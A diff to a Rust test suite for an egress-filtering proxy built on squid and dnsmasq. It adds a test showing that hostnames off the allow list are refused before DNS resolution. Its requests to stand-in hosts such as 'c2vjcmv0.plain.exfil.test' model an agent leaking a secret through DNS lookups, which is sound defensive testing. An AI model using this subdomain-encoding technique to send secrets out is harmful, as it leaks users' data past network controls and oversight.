@@ -151,6 +151,10 @@ impl Net {
                 "--no-hosts",
                 "--user=root",
                 &format!("--pid-file={}/dnsmasq.pid", net.dir.path().display()),
+                // Every name anyone asks it for, in dns.log (what an attacker's name server
+                // would learn).
+                "--log-queries",
+                &format!("--log-facility={}/dns.log", net.dir.path().display()),
                 &format!("--host-record=allowed.test,{ALLOWED_IP}"),
                 &format!("--host-record=other.test,{ALLOWED_IP}"),
                 &format!("--host-record=also-allowed.test,{ALLOWED_IP}"),
@@ -421,4 +425,46 @@ allowed_hosts = ["allowed.test", "also-allowed.test"]
     let log = fs::read_to_string(net.dir.path().join("clawguard/access.log")).unwrap();
     let refused = clawguard::check::proxy::refused(&log);
     assert!(refused.contains_key("other.test:443"), "the refused TLS name is not counted: {refused:?}\n{log}");
+}
+
+/// A name off the list is refused before anything resolves it: a lookup would carry what
+/// the agent puts in the name (`<secret>.attacker.example`) to that domain's name server —
+/// out through the proxy's resolver, past the internal network. The resolver's own log is
+/// the witness; the allowed host is looked up (the control), and the same file without the
+/// early refusal does look the name up (the rule is what stops it).
+#[test]
+fn a_name_off_the_list_is_refused_before_anything_resolves_it() {
+    let (conf, _) = squid_conf("version = 1\n[egress]\nallowed_hosts = [\"allowed.test\"]\n");
+    let mut net = Net::start("dns");
+    net.squid("clawguard", &conf, 3128);
+    let early = "http_access deny !allowed_hosts";
+    assert!(conf.contains(early), "{conf}");
+    let late: String = conf.lines().filter(|l| *l != early).collect::<Vec<_>>().join("\n");
+    net.squid("late", &late, 3129);
+    let asked = |name: &str| {
+        let log = fs::read_to_string(net.dir.path().join("dns.log")).unwrap_or_default();
+        log.lines().any(|l| l.contains("query[") && l.contains(name))
+    };
+
+    assert_eq!(net.get(3128, "http://allowed.test/"), "200");
+    assert!(asked("allowed.test"), "control: the resolver logs what it is asked");
+    assert_eq!(net.get(3128, "http://c2vjcmv0.plain.exfil.test/"), "403");
+    assert!(!net.tls(3128, "c2vjcmv0.tunnel.exfil.test:443", Some("allowed.test")).contains("reached"));
+    assert!(!net.tls(3128, "allowed.test:443", Some("c2vjcmv0.sni.exfil.test")).contains("reached"));
+    // squid writes its log line when it is done: the refusals are all in before we look.
+    let access = || fs::read_to_string(net.dir.path().join("clawguard/access.log")).unwrap_or_default();
+    let logged = || ["plain", "tunnel", "sni"].iter().all(|w| access().contains(&format!("c2vjcmv0.{w}.exfil.test")));
+    for _ in 0..100 {
+        if logged() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    assert!(logged(), "the refusals are not all in squid's log:\n{}", access());
+    for what in ["plain", "tunnel", "sni"] {
+        assert!(!asked(&format!("{what}.exfil.test")), "the {what} name was looked up");
+    }
+
+    assert_eq!(net.get(3129, "http://c2vjcmv0.late.exfil.test/"), "403", "refused either way");
+    common::wait("the late rule's lookup", 10, || asked("late.exfil.test"));
 }
